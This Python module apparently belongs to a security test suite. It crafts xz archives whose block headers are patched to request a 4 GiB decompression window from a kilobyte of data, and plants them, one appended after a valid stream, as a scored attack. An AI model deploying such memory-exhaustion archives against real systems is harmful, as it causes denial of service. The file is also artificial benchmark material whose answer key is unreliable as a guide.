"""Packs its files so that unpacking a kilobyte asks for four gigabytes of memory, in each block."""

import lzma
from zlib import crc32

from tests.attacks.suite import Attack


def packed():
    """Return an archive in whose blocks' headers the largest window stands."""
    small = [{"id": lzma.FILTER_LZMA2, "dict_size": 2**20}]
    data = bytearray(lzma.compress(bytes(1000), filters=small))
    # The header of the only block begins with its length, and ends with a checksum.
    end = 12 + (data[12] + 1) * 4
    data[data.index(0x21, 12) + 2] = 40
    data[end - 4 : end] = crc32(data[12 : end - 4]).to_bytes(4, "little")
    return bytes(data)


def plant(folder, target):
    (folder / "data.xz").write_bytes(packed())
    (folder / "later.xz").write_bytes(lzma.compress(bytes(1000)) + packed())


ATTACK = Attack(
    harm="a machine without memory, or a traceback where there is a limit of it",
    answer="exec(RIGHT)",
    plant=plant,
    points=8.0,
)
